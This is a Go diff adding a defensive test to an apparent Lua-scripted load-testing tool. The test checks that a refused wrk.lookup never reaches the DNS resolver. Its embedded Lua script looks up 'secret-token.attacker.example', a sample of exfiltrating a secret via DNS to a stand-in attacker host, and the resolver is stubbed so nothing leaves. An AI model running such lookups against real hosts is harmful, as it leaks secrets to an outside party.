@@ -3,6 +3,7 @@ package luart
 import (
 	"bufio"
 	"bytes"
+	"context"
 	"errors"
 	"fmt"
 	"io"
@@ -12,6 +13,7 @@ import (
 	"path/filepath"
 	"strconv"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -467,4 +469,33 @@ func readCompat(t *testing.T, name string) []byte {
 		t.Fatal(err)
 	}
 	return b
+}
+
+// TestLookupRefusedBeforeResolving: a refused wrk.lookup never reaches the
+// resolver, so no DNS query carries the name out. The resolver counts its
+// dials; allowing the name explicitly shows that a lookup would dial.
+func TestLookupRefusedBeforeResolving(t *testing.T) {
+	for _, tt := range []struct {
+		allow []string
+		dials bool
+	}{{nil, false}, {[]string{"secret-token.attacker.example"}, true}} {
+		var dials atomic.Int64
+		res := &net.Resolver{PreferGo: true, Dial: func(context.Context, string, string) (net.Conn, error) {
+			dials.Add(1)
+			return nil, errors.New("no network in this test")
+		}}
+		targets, err := policy.NewTargets([]policy.Source{{Name: "--allow-target", Entries: tt.allow}}, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		s, _, _ := load(t, "lookup.lua", `function setup(t) wrk.lookup("secret-token.attacker.example", "80") end`,
+			Options{Threads: 1, Resolver: res, Targets: targets})
+		_, err = s.NewThread(0)
+		if err == nil {
+			t.Fatalf("allow %v: the lookup succeeded", tt.allow)
+		}
+		if got := dials.Load() > 0; got != tt.dials {
+			t.Errorf("allow %v: %d dials (err %v); want dials: %v", tt.allow, dials.Load(), err, tt.dials)
+		}
+	}
 }
